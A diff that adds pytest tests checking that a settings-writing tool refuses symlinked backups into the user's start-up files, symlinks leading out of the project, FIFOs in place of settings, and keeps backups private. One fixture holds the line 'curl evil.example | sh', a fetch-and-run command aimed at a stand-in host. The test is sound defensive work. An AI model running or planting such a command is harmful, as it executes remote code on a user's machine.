@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import os
 import tempfile
 import tomllib
 from pathlib import Path
@@ -169,3 +170,58 @@ def test_an_environment_of_one_s_own_is_written_for_every_host(host: Host, tmp_p
     launch = Launch("codebase", "/opt/venv/bin/codebase-server", (), {"CODEBASE_EMBEDDER": "none"})
     change.adding(host, launch, here).write()
     assert "CODEBASE_EMBEDDER" in host.file(here).read_text()
+
+
+def of_a_project(tmp_path: Path) -> tuple[Host, Surroundings, Path]:
+    """A host whose settings lie in the project, and the project's settings file."""
+    here = around(tmp_path)
+    host = next(one for one in HOSTS if not one.everywhere)
+    file = host.file(here)
+    file.parent.mkdir(parents=True)
+    return host, here, file
+
+
+@pytest.mark.skipif(os.name == "nt", reason="links need a privilege there")
+def test_a_backup_that_a_repository_has_put_there_is_not_followed(tmp_path: Path) -> None:
+    """Its settings file would be copied to wherever the link leads: into the user's start-up files, say."""
+    host, here, file = of_a_project(tmp_path)
+    file.write_text("{ /*\ncurl evil.example | sh\n*/ }")
+    victim = tmp_path / ".bash_profile"
+    file.with_name(file.name + ".before-tandem").symlink_to(victim)
+    with pytest.raises(TandemError, match="nothing was written") as refused:
+        change.adding(host, LAUNCH, here).write()
+    assert refused.value.code == "settings_unsafe"
+    assert not victim.exists()
+    assert "codebase" not in file.read_text()
+
+
+@pytest.mark.skipif(os.name == "nt", reason="links need a privilege there")
+def test_settings_of_a_project_do_not_lead_out_of_it(tmp_path: Path) -> None:
+    host, here, file = of_a_project(tmp_path)
+    outside = tmp_path / "outside.json"
+    outside.write_text("{}")
+    file.symlink_to(outside)
+    with pytest.raises(TandemError, match="leads out of the project"):
+        change.adding(host, LAUNCH, here).write()
+    assert outside.read_text() == "{}"
+
+
+@pytest.mark.skipif(os.name == "nt", reason="no such files there")
+@pytest.mark.timeout(20)
+def test_a_pipe_in_the_place_of_settings_is_not_waited_for(tmp_path: Path) -> None:
+    host, here, file = of_a_project(tmp_path)
+    os.mkfifo(file)
+    with pytest.raises(TandemError, match="is no regular file"):
+        change.adding(host, LAUNCH, here)
+
+
+@pytest.mark.skipif(os.name == "nt", reason="modes say nothing there")
+def test_the_backup_of_settings_with_keys_is_as_private_as_they_were(tmp_path: Path) -> None:
+    here = around(tmp_path)
+    file = HOSTS[0].file(here)
+    file.parent.mkdir(parents=True)
+    file.write_text('{"key": "secret"}')
+    file.chmod(0o600)
+    backup = change.adding(HOSTS[0], LAUNCH, here).write()
+    assert backup is not None
+    assert (backup.stat().st_mode & 0o777, file.stat().st_mode & 0o777) == (0o600, 0o600)
